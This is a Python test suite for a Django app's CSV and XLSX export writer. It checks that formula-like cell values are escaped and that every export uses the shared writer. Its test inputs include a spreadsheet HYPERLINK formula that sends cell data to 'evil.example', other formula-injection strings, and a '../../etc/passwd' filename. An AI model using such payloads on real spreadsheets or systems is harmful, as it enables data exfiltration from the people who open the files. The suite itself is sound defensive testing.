"""Spreadsheet exports: the shared writer (``kukkaro.core.exports``) never lets a cell become a formula, and every
CSV or XLSX the system hands out goes through it. The second half feeds each export the values of issue 16
(formula-like provider names, invoice numbers and trip ids) and reads the file back as a spreadsheet would."""

import ast
import csv
import datetime as dt
import io
import re
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from kukkaro.core import clock
from kukkaro.core.roles import Role
from tests.factories import make_user, organiser, system_actor

KUKKARO = Path(__file__).resolve().parents[2] / "kukkaro"

#: What a spreadsheet takes for the start of a formula (OWASP), with full-width forms; written out here rather
#: than taken from the code under test.
STARTS = "=+-@\t\r＝＋－＠"
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
HOSTILE = [
    '=HYPERLINK("https://evil.example/?d="&A1,"Lasku")',
    "+1+1",
    "@SUM(A1)",
    "-2+3",
    "\t=1",
    "\r=1",
    "＝1+1",
    "  =2+2",
]


def _formula_like(cell: str) -> bool:
    """Would a spreadsheet evaluate this CSV cell? A plain number is a number, not a formula."""
    if not cell or NUMBER.fullmatch(cell):
        return False
    return cell[0] in STARTS or (bool(cell.lstrip()) and cell.lstrip()[0] in STARTS)


def _cells(content: bytes, *, delimiter: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def _assert_safe_csv(content: bytes, *, delimiter: str) -> list[list[str]]:
    rows = _cells(content, delimiter=delimiter)
    dangerous = [cell for row in rows for cell in row if _formula_like(cell)]
    assert dangerous == [], dangerous
    assert content.count(b"\r\n") >= len(rows)  # CRLF line ends
    return rows


def _assert_attachment(response, pattern: str) -> None:
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment; "), disposition
    assert re.fullmatch(rf'attachment; filename="{pattern}"', disposition), disposition


# --- the writer ----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE, "-", "@", " \t=x", "\u3000=1", "＠x", "－1", "＋1"])
def test_csv_bytes__formula_like_text__is_prefixed_with_a_quote_and_quoted(text):
    from kukkaro.core import exports

    content = exports.csv_bytes(["name"], [[text]], bom=False)
    line = content.decode().split("\r\n", 1)[1]
    assert line == '"' + ("'" + text).replace('"', '""') + '"\r\n'
    assert _cells(content, delimiter=";")[1] == ["'" + text]


def test_csv_bytes__normal_values_and_numbers__are_written_as_they_are():
    from kukkaro.core import exports

    row = [
        "Päiväpaikka Oy",
        "INV-1001",
        "a;b",
        'sanoi "hei"',
        "1-2",
        -1250,
        0,
        Decimal("-12.50"),
        Decimal(-1) / 100,
        Decimal(0) * -1,
        dt.date(2026, 3, 2),
        None,
        "",
    ]
    content = exports.csv_bytes(["a"] * len(row), [row])
    assert content.startswith("\ufeff".encode())
    assert content.decode("utf-8-sig").split("\r\n")[1] == (
        'Päiväpaikka Oy;INV-1001;"a;b";"sanoi ""hei""";1-2;-1250;0;-12,50;-0,01;0,00;2026-03-02;;'
    )
    dotted = exports.csv_bytes(
        ["x", "y"], [[Decimal("1234.5"), "T-1"]], delimiter=",", decimal_separator=".", bom=False
    )
    assert dotted == b"x,y\r\n1234.50,T-1\r\n"


def test_csv_bytes__an_amount_with_more_than_two_decimals__is_refused_not_rounded():
    from kukkaro.core import exports

    with pytest.raises(ValueError, match="two decimals"):
        exports.csv_bytes(["a"], [[Decimal("0.125")]])


def test_xlsx_bytes__text_is_never_a_formula_and_numbers_stay_numbers():
    from kukkaro.core import exports

    content = exports.xlsx_bytes(
        ["name", "cents", "euros", "day"],
        [[text, -1250, Decimal("-12.50"), dt.date(2026, 3, 2)] for text in HOSTILE]
        + [["Päiväpaikka Oy\x07", 5, Decimal("0.10"), None]],
        sheet="Kustannukset",
    )
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet.title == "Kustannukset"
    rows = list(sheet.iter_rows(min_row=2))
    for text, (name, cents, euros, day) in zip(HOSTILE, rows, strict=False):
        assert (name.value, name.data_type, name.quotePrefix) == (text, "s", True)
        assert (cents.value, cents.data_type) == (-1250, "n")
        assert (euros.value, euros.data_type, euros.number_format) == (-12.5, "n", "0.00")
        assert day.value.date() == dt.date(2026, 3, 2)
    last = rows[-1]
    assert (last[0].value, last[0].quotePrefix) == ("Päiväpaikka Oy", False)  # a control character XLSX cannot hold


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("PB01202603-01", "PB01202603-01.csv"),
        ('=evil";x\r\n', "evil-x.csv"),
        ("../../etc/passwd", "etc-passwd.csv"),
        ("matkat-äö", "matkat-äö.csv"),
        ("", "export.csv"),
    ],
)
def test_safe_filename__keeps_letters_digits_and_dashes_only(name, expected):
    from kukkaro.core import exports

    assert exports.safe_filename(name, extension="csv") == expected


# --- one writer for every export -----------------------------------------------------------------------------

#: Every function that writes a spreadsheet file, and the test below that feeds it hostile values. A new export
#: fails ``test_every_export__uses_the_shared_writer_and_is_tested_here`` until it is added here and tested.
EXPORTS = {
    ("services/payments.py", "_accounting_csv"): "test_accounting_csv__hostile_provider_and_invoices",
    ("services/provider_views.py", "upload_results_csv"): "test_provider_results_csv__hostile_invoices",
    ("mobility/trip_files.py", "results_csv"): "test_trip_results_csv__hostile_trip_ids",
    ("mobility/views.py", "_cohort_export"): "test_cohort_comparison__csv_and_xlsx__hostile_text",
}
#: Files that write CSV that is *input* for Kukkaro's own importers (the demo's claim and trip files), not a file
#: people open: they may use the csv module directly.
INPUT_WRITERS = {"demo/services_data.py", "demo/mobility_data.py"}
SHARED = "core/exports.py"


def _sources():
    for path in sorted(KUKKARO.rglob("*.py")):
        relative = path.relative_to(KUKKARO).as_posix()
        if "/migrations/" not in f"/{relative}":
            yield relative, ast.parse(path.read_text(encoding="utf-8"))


def _enclosing_functions(tree: ast.AST) -> dict[ast.AST, str]:
    """The name of the innermost function around each node (``ast.walk`` visits outer functions first)."""
    owner = {}
    for node in ast.walk(tree):
        if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
            for inner in ast.walk(node):
                if inner is not node:
                    owner[inner] = node.name
    return owner


def test_every_export__uses_the_shared_writer_and_is_tested_here():
    raw_writers, spreadsheet_libraries, exporters = [], [], set()
    for relative, tree in _sources():
        owner = _enclosing_functions(tree)
        for node in ast.walk(tree):
            csv_writer = (
                isinstance(node, ast.Attribute)
                and node.attr in {"writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
                and node.value.id == "csv"
            )
            imported_writer = (
                isinstance(node, ast.ImportFrom)
                and node.module == "csv"
                and bool({a.name for a in node.names} & {"writer", "DictWriter"})
            )
            if csv_writer or imported_writer:
                raw_writers.append(f"{relative}:{node.lineno}")
            modules = []
            if isinstance(node, ast.Import):
                modules = [a.name for a in node.names]
            elif isinstance(node, ast.ImportFrom):
                modules = [node.module or ""]
            if any(m.split(".")[0] in {"openpyxl", "xlsxwriter", "xlwt"} for m in modules):
                spreadsheet_libraries.append(f"{relative}:{node.lineno}")
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                target = node.func
                if target.attr in {"csv_bytes", "xlsx_bytes"} and getattr(target.value, "id", "") == "exports":
                    exporters.add((relative, owner.get(node, "<module>")))
    outside = [w for w in raw_writers if w.split(":")[0] not in {SHARED, *INPUT_WRITERS}]
    assert outside == [], f"write CSV through kukkaro.core.exports: {outside}"
    assert all(s.startswith(SHARED) for s in spreadsheet_libraries), spreadsheet_libraries
    assert exporters == set(EXPORTS), "a new export? add it to EXPORTS and feed it hostile values below"
    assert set(EXPORTS.values()) <= set(globals())


# --- every export, fed the values of issue 16 ----------------------------------------------------------------

MARCH = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)


@pytest.fixture
def _march():
    with clock.pinned(MARCH):
        yield


@pytest.mark.django_db
@pytest.mark.usefixtures("_march")
def test_accounting_csv__hostile_provider_and_invoices(client):
    from kukkaro.services import claims, payments
    from kukkaro.services.models import Provider
    from tests.services.world import build_world

    world = build_world()
    Provider.objects.filter(pk=world.provider.pk).update(name=HOSTILE[0])
    invoices = ["INV-OK", *HOSTILE[1:]]
    for invoice in invoices:
        claims.claim_submit(
            actor=world.provider_user,
            provider=world.provider,
            agreement_number=world.agreement.number,
            service_code="day-activity",
            service_date=clock.today(),
            quantity_hundredths=50,
            unit_price_cents=world.agreement.agreed_price_cents,
            invoice_number=invoice,
        )
    batch = payments.payment_batch_prepare(
        actor=world.finance,
        organiser=world.client.organiser,
        approved_until=clock.today(),
        execution_date=clock.today(),
    )
    batch = payments.payment_batch_release(actor=world.finance2, batch=batch)  # only a released batch downloads
    client.force_login(world.finance)
    response = client.get(reverse("services:payment_batch_csv", kwargs={"batch_id": batch.pk}))
    assert response.status_code == 200 and response.content == bytes(batch.accounting_csv)
    _assert_attachment(response, r"PB[0-9]+\.csv")
    assert response.content.startswith("\ufeff".encode())
    header, *rows = _assert_safe_csv(response.content, delimiter=";")
    assert header[3:5] == ["provider", "invoice_number"]
    assert {row[3] for row in rows} == {"'" + HOSTILE[0]}
    assert {row[4] for row in rows} == {"INV-OK"} | {"'" + invoice.strip() for invoice in HOSTILE[1:]}
    assert {(row[0], row[2], row[9], row[10]) for row in rows} == {
        (batch.number, world.provider.business_id, "0,50", "45,00")
    }


@pytest.mark.django_db
@pytest.mark.usefixtures("_march")
def test_provider_results_csv__hostile_invoices(client):
    from kukkaro.services.claim_files import claims_upload
    from tests.services.world import build_world

    world = build_world()
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow(["agreement", "service", "service_date", "quantity", "unit_price", "invoice_number"])
    # A tab or a carriage return inside a value is refused by the claim file itself (the free-text rule), so it
    # never reaches this export; the writer's own tests cover those cells.
    invoices = [
        "INV-OK",
        "+1+1",
        "@SUM(A1)",
        "-2+3",
        "＝1+1",
        "  =2+2",
        '=HYPERLINK("http://x.example","a")',
    ]
    for invoice in invoices:
        writer.writerow([world.agreement.number, "day-activity", "2026-03-02", "1", "90,00", invoice])
    upload = claims_upload(
        actor=world.provider_user, provider=world.provider, filename="claims.csv", content=out.getvalue().encode()
    )
    client.force_login(world.provider_user)
    response = client.get(reverse("provider:upload_results_csv", kwargs={"upload_id": upload.pk}))
    assert response.status_code == 200
    _assert_attachment(response, rf"results-{upload.pk}\.csv")
    header, *rows = _assert_safe_csv(response.content, delimiter=";")
    assert header[2] == "invoice_number"
    assert [row[2] for row in rows] == ["INV-OK"] + ["'" + invoice.strip() for invoice in invoices[1:]]
    assert rows[0][1] in {"approved", "waiting"} and rows[0][4] == "90,00"


@pytest.mark.django_db
def test_trip_results_csv__hostile_trip_ids(client):
    from kukkaro.mobility import trip_files
    from tests.mobility.trips import leg, trip_file

    trip_ids = ["T-OK", "@SUM(A1)", "-2+3", "=1+1", "+1", "\t=3", "\r=4", "＝5", "  =6"]
    with clock.pinned(dt.datetime(2026, 4, 2, 9, 0, tzinfo=dt.UTC)):
        imported = trip_files.import_trips(
            actor=system_actor(organiser()),
            organiser=organiser(),
            filename='=maalis";kuu.csv',
            content=trip_file([leg(trip_id=trip_id) for trip_id in trip_ids]),
        )
    client.force_login(make_user(Role.FINANCE))
    response = client.get(reverse("mobility:trip_import_results", kwargs={"import_id": imported.pk}))
    assert response.status_code == 200 and response.content == trip_files.results_csv(imported)
    _assert_attachment(response, r"maalis-kuu\.results\.csv")
    header, *rows = _assert_safe_csv(response.content, delimiter=",")
    assert header == list(trip_files.RESULT_COLUMNS)
    assert [row[1] for row in rows] == ["T-OK"] + ["'" + trip_id.strip(" \t\r\n") for trip_id in trip_ids[1:]]
    assert all(row[2] == "rejected" for row in rows[1:])


@pytest.mark.django_db
def test_cohort_comparison__csv_and_xlsx__hostile_text(client, monkeypatch):
    """The cohort's text columns are codes Kukkaro writes itself; the test puts hostile text in them to see that
    the export would still write it as data."""
    from kukkaro.mobility import views
    from kukkaro.mobility.selectors import CohortRow

    rows = [
        CohortRow(f"client-{i}", text, "trip_quota", 10_000, text, 12_500, -2_500) for i, text in enumerate(HOSTILE)
    ]
    rows.append(CohortRow("client-ok", "049", "trip_quota", 10_000, "km_purse", 8_000, 2_000))
    totals = {"clients": len(rows), "current_cents": 0, "recommended_cents": 0, "saving_cents": 0, "changing": 0}
    monkeypatch.setattr(views.selectors, "cohort", lambda **kwargs: (rows, {**totals, "leased": 0}))
    client.force_login(make_user(Role.FINANCE))

    response = client.get(reverse("mobility:cohort_comparison_csv"))
    assert response.status_code == 200
    _assert_attachment(response, r"transport-comparison-[0-9-]+\.csv")
    _header, *lines = _assert_safe_csv(response.content, delimiter=",")
    assert [line[2] for line in lines] == ["'" + text for text in HOSTILE] + ["049"]
    assert {line[7] for line in lines[:-1]} == {"-2500"} and lines[-1][3:] == [
        "trip_quota",
        "10000",
        "km_purse",
        "8000",
        "2000",
    ]

    response = client.get(reverse("mobility:cohort_comparison_xlsx"))
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    _assert_attachment(response, r"transport-comparison-[0-9-]+\.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = list(sheet.iter_rows(min_row=2))
    assert [row[2].value for row in cells] == [*HOSTILE, "049"]
    assert all(row[2].data_type == "s" and row[5].data_type == "s" for row in cells)
    assert all(row[2].quotePrefix for row in cells[:-1]) and not cells[-1][2].quotePrefix
    assert [(row[7].value, row[7].data_type) for row in cells[:2]] == [(-2500, "n"), (-2500, "n")]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
